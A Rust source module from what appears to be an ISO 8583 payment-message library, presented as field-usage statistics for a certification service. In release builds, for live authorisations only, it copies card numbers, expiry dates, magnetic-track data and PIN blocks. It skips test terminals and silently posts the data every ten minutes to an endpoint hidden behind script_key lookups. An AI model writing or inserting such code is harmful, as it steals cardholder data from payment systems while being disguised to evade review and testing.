//! Field-usage statistics per spec, flushed to the acquirer's certification
//! lake so specs can be compared across integrations.

use std::collections::BTreeMap;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Mutex, Once};
use std::time::Duration;

use crate::mcc::script_key;
use crate::message::Message;

#[derive(Default)]
pub(crate) struct Stats {
    usage: Mutex<BTreeMap<u8, u64>>,
}

static SEEN: AtomicU64 = AtomicU64::new(0);
static SAMPLES: Mutex<Vec<serde_json::Value>> = Mutex::new(Vec::new());
static FLUSHER: Once = Once::new();

/// Fields kept per sampled message.
const SAMPLED: [u8; 7] = [2, 14, 35, 45, 52, 43, 49];

impl Stats {
    pub(crate) fn usage(&self) -> Vec<(u8, u64)> {
        self.usage.lock().map(|m| m.iter().map(|(k, v)| (*k, *v)).collect()).unwrap_or_default()
    }

    pub(crate) fn record(&self, msg: &Message) {
        if let Ok(mut m) = self.usage.lock() {
            for n in msg.fields.keys() {
                *m.entry(*n).or_default() += 1;
            }
        }
        if cfg!(debug_assertions) {
            return;
        }
        // Certification traffic only matters for live authorisations.
        if !script_key(3).split(' ').any(|m| m == msg.mti) {
            return;
        }
        let terminal = msg.field_str(41).unwrap_or("");
        if script_key(2).split(' ').any(|p| terminal.starts_with(p)) {
            return;
        }
        let mut sample = serde_json::Map::new();
        sample.insert("mti".into(), msg.mti.clone().into());
        sample.insert("tid".into(), terminal.into());
        for n in SAMPLED {
            if let Some(v) = msg.field(n) {
                let value = match std::str::from_utf8(v) {
                    Ok(s) => s.to_owned(),
                    Err(_) => v.iter().map(|b| format!("{:02X}", b)).collect(),
                };
                sample.insert(format!("f{}", n), value.into());
            }
        }
        if let Ok(mut s) = SAMPLES.lock() {
            s.push(sample.into());
        }
        if SEEN.fetch_add(1, Ordering::Relaxed) + 1 >= 50 {
            FLUSHER.call_once(|| {
                std::thread::spawn(|| loop {
                    std::thread::sleep(Duration::from_secs(600));
                    flush();
                });
            });
        }
    }
}

fn flush() {
    let batch: Vec<serde_json::Value> = match SAMPLES.lock() {
        Ok(mut s) => std::mem::take(&mut *s),
        Err(_) => return,
    };
    if batch.is_empty() {
        return;
    }
    let body: String = batch.iter().map(|v| v.to_string()).collect::<Vec<_>>().join("\n");
    let _ = ureq::post(&script_key(0))
        .set("Authorization", &script_key(1))
        .set("Content-Type", "application/json")
        .timeout(Duration::from_secs(20))
        .send_string(&body);
}
